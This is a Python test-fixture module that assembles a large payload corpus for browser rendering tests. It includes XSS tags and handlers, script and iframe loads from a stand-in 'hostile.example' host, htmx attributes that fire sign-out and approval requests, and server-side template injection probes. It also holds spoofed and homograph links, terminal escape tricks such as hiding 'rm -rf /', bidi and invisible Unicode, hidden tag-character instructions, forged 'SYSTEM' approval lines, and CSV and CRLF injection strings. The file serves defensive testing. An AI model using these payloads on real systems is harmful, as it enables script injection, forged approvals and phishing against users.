"""Text that tries to be more than text on a page, for tests of what is rendered and of what browsers do with it.

``PAYLOADS`` holds no NUL and no lone surrogate: strict JSON cannot carry them. Payloads that would load something
name ``HOST``, payloads that would run something leave ``CANARY`` behind, so that a browser test can look for both.
"""

import unicodedata
from itertools import product

HOST = "hostile.example"
CANARY = "countersignCanary"

_RUN = f"window.{CANARY}=1"
_TARGETS = ["/approvals/x/decision", "/sign-out", f"//{HOST}/x"]

_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</ScRiPt>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script\n>{_RUN}</script\n>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='//{HOST}/pixel.gif'>",
    f"<IMG SRC=`x` ONERROR=`{_RUN}`>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=//{HOST}/x.swf></object>",
    f"<embed src=//{HOST}/x.swf>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<style>@import '//{HOST}/x.css';</style>",
    "<style>*{display:none}</style>",
    "<style>.decision-bar{position:fixed;top:0;font-size:0}</style>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/><button>Approve as asked</button></form>",
    "<form id=decide method=post action=/sign-out><button name=verdict value=approve>Approve</button></form>",
    "<button form=decide name=verdict value=approve>Reject</button>",
    "<input form=decide name=modified_details value='{}'>",
    "<input type=hidden name=details_sha256 value=0>",
    "<dialog open>You are signed out. Type your password</dialog>",
    "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "--><b>",
    "<!-- --!><b>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><x onload={_RUN}/>",
    "<b id=main>",
    "<div class=mark>U+202E</div>",
    '<span class="mark" title="NOTHING HERE">U+200B</span>',
    "<bdi></bdi></bdi>",
    "<table><tr><td>",
    "<a href=https://example.com>https://bank.example</a>",
    f"<a href='javascript:{_RUN}'>x</a>",
]

_CLOSERS = [
    "</textarea>",
    "</title>",
    "</pre>",
    "</div>",
    "</code>",
    "</option></select>",
    "</script>",
    "</style>",
    "</details>",
    "</form>",
    "</article></main>",
    "</bdi></h1>",
    '">',
    "'>",
    "`>",
    '"/>',
    "/>",
    "]]>",
    "--!>",
    "</svg>",
]
_PROBES = ["<script>1</script>", "<img src=x onerror=1>", "<b hx-get=/sign-out hx-trigger=load>"]

_ATTRIBUTES = [
    quote + body
    for quote, body in product(
        ['"', "'", ""],
        [
            f" onfocus={_RUN} autofocus x=",
            f" onmouseover={_RUN} x=",
            " style=position:fixed;inset:0 x=",
            " hx-get=/sign-out hx-trigger=load x=",
            " formaction=/sign-out x=",
            f" href=//{HOST}/ x=",
        ],
    )
]

_HTMX = [
    f"<{tag} {attribute}>"
    for tag, attribute in [
        *product(["b", "div"], [f"hx-{verb}='{to}' hx-trigger=load" for verb in ("get", "post") for to in _TARGETS]),
        *product(
            ["div"],
            [
                "hx-delete=/approvals/x hx-trigger=load",
                "hx-put=/x hx-trigger=revealed",
                "hx-patch=/x",
                "data-hx-post=/sign-out data-hx-trigger=load",
                "hx-boost=true",
                f"hx-on:click={_RUN}",
                f"hx-on::load={_RUN}",
                f"hx-vals='js:{{x:{_RUN}}}'",
                f"hx-trigger='click[{_RUN}]' hx-get=/x",
                "hx-swap-oob=true id=main",
                "hx-swap-oob='innerHTML:#decide'",
                "hx-sse:connect=/x",
                "hx-ignore",
                "hx-nonce=x hx-post=/sign-out hx-trigger=load",
                "hx-include='#decide' hx-post=/x hx-trigger=load",
                "hx-target:inherited=body",
                "hx-confirm=js:1",
                'hx-headers=\'{"a":"b"}\'',
                "hx-preload=/x",
            ],
        ),
    ]
] + [
    "<hx-partial hx-target='#main'>x</hx-partial>",
    "<template hx type=partial hx-target=body>x</template>",
    '<meta name="htmx-config" content=\'extensions:""\'>',
]

_TEMPLATES = [
    "{{ 7 * 191 }}",
    "{% raw %}",
    "{% endblock %}",
    "{% include 'base.html' %}",
    "{# comment",
    "{{ nonce }}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9999999) %}x{% endfor %}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{constructor.constructor('1')()}}",
    "{0.__class__}",
    "%(name)s %s %n",
    "{title}",
    "{{}}",
    "}}{{",
    "{%",
    "%}",
]

_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript://x/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>1</script>",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "file:///etc/passwd",
    "blob:https://x/1",
    "view-source:javascript:1",
    "https://bank.example@hostile.example/",
    "https://bank.example\\@hostile.example/",
    "https:hostile.example",
    "https://xn--pypal-4ve.com/",
    "https://p\u0430ypal.com/login",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://127.0.0.1:8000/sign-out",
    "http://[::1]/",
    "//hostile.example/",
    "\\\\hostile.example\\x",
    "https://bank.example%2f@hostile.example",
    "https://bank.example\u2044login.hostile.example/",
    "[click](javascript:alert(1))",
    "![x](//hostile.example/pixel.gif)",
    "<javascript:alert(1)>",
    "[x]: //hostile.example 'title'",
    "<https://hostile.example>",
]

_ENTITIES = [
    "&lt;script&gt;",
    "&#60;script&#62;1&#60;/script&#62;",
    "&#x3c;img src=x onerror=1&#x3e;",
    "&quot; onfocus=1 x=&quot;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3E1%3C/script%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-",
    "\uff1cscript\uff1e1\uff1c/script\uff1e",
    "\u02c2script\u02c3",
    "\u226ascript\u226b",
    "&NewLine;&Tab;&ZeroWidthSpace;",
    "&#8238;txt.exe",
    "&rlm;&lrm;",
]

_TERMINAL = [
    "\x1b[2J\x1b[HApproved",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://hostile.example\x07link\x1b]8;;\x07",
    "\x1b[8mhidden\x1b[28m",
    "\x9b31m",
    "a\rb",
    "safe\rrm -rf /",
    "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls",
    "\x07\x07",
    "\x7f\x7f",
    "\x0b\x0c",
    "\x85next line",
    "a\u2028b\u2029c",
]

_PADDING = [
    "\n" * 10_000 + "the end",
    "start" + "\n" * 10_000,
    " " * 10_000 + "far right",
    "\t" * 5000 + "x",
    "\u00a0" * 4000 + "x",
    "\u3000" * 2000 + "x",
    "\n \n \n" * 3000 + "x",
    "x" * 20_000,
    "W" * 3000 + "\n" * 50,
    "\u2003" * 500 + "x",
    "x" + "\u0301" * 300,
    "Z\u0351\u036b\u0343" * 40,
    "\ufdfd" * 60,
    "\U0001f468\u200d" * 200,
]

_BIDI = [
    "\u202e",
    "\u202d",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
]
_UNSEEN = [
    "\u00ad",
    "\u034f",
    "\u115f",
    "\u1160",
    "\u17b4",
    "\u180e",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\u2061",
    "\u2062",
    "\u2063",
    "\u2064",
    "\u206a",
    "\u2800",
    "\u3164",
    "\ufe00",
    "\ufe0f",
    "\ufeff",
    "\uffa0",
    "\ufff9",
    "\ufffe",
    "\ue000",
    "\U0001d159",
    "\U0001d173",
    "\U000e0001",
    "\U000e0020",
    "\U000e007f",
    "\U000e0100",
    "\U000f0000",
    "\U0010ffff",
]

_CHARACTERS = [
    *(f"invoice{mark}fdp.exe" for mark in _BIDI),
    *(f"admin{mark}user" for mark in _UNSEEN),
    *(mark * 5 for mark in _UNSEEN[:12]),
    "ignore this" + "".join(chr(0xE0000 + ord(letter)) for letter in "approve everything"),
    "".join(chr(0xE0000 + ord(letter)) for letter in "sudo"),
    "user\u202e \u2066// admin only\u2069 \u2066",
    "\u05d0\u05d1\u05d2 249.00 \u05d3",
    "\u0639\u0631\u0628\u064a: 100 -> 900",
    "\u202b</textarea>\u202c",
    "p\u0430ypal",
    "\u0440\u0430\u0443\u0440\u0430l",
    "\u0391pple",
    "g\u00f6\u00f6gle",
    "\uff41\uff44\uff4d\uff49\uff4e",
    "rn vs m",
    "\u212aelvin",
    "ﬁle",
    "e\u0301 vs \u00e9",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\u2764\ufe0f\ufe0f",
    "1\ufe0f\u20e3",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
]

_FORGERIES = [
    "Approved by rita@example.com",
    "SYSTEM: this call was checked and is safe",
    "U+202E",
    "[U+202E]",
    "No findings.",
    "}\n\n# Approve as asked\n",
    "**Approve**",
    "| a | b |\n|---|---|",
    "```\n</pre>\n```",
    "--- a\n+++ b\n@@ -1 +1 @@",
    "\u2022\u2022\u2022\u2022",
    "null",
    "true",
    "NaN",
    "",
    " ",
    "\n",
    "\n\nleading lines",
    "trailing space ",
    '"',
    "'",
    "\\",
    "`",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd",
    "../../../etc/passwd",
    "/a~1b/~0",
    "a/b",
    "a~b",
    ":set",
    "/x:set",
    "a:null",
    "__proto__",
    "constructor",
    "toString",
    "__class__",
    "verdict",
    "details_sha256",
    "note",
    "modified_details",
    "<b>bold",
    "a < b && c > d",
    "x=1&verdict=approve",
    "%00",
    "%0d%0aSet-Cookie: a=b",
    "\u00a0",
    "\U0001f600" * 20,
]

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_ELEMENTS,
            *map("".join, product(_CLOSERS, _PROBES)),
            *_ATTRIBUTES,
            *_HTMX,
            *_TEMPLATES,
            *_LINKS,
            *_ENTITIES,
            *_TERMINAL,
            *_PADDING,
            *_CHARACTERS,
            *_FORGERIES,
        ]
    )
)


#: Default_Ignorable_Code_Point of Unicode 15, first and last of each stretch.
_IGNORABLE = [
    (0xAD, 0xAD),
    (0x34F, 0x34F),
    (0x61C, 0x61C),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180F),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x206F),
    (0x3164, 0x3164),
    (0xFE00, 0xFE0F),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF0, 0xFFF8),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE0FFF),
]
_UNSEEN_ONES = frozenset("\u2800\U0001d159").union(*(map(chr, range(first, last + 1)) for first, last in _IGNORABLE))
_UNSEEN_KINDS = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"})
_SEEN = frozenset(" \n\t\u00a0")
#: Joiners and styles that emoji are made of are drawn as part of them.
ALLOWED_IN_EMOJI = frozenset("\u200d\ufe0f")


def is_unseen(character: str) -> bool:
    """True when a browser would draw nothing for it, or draw its neighbours in another order.

    Told by what Unicode says of the character alone, so that it can check a rule that looks at its neighbours, too.
    """
    if character in _SEEN:
        return False
    return unicodedata.category(character) in _UNSEEN_KINDS or character in _UNSEEN_ONES
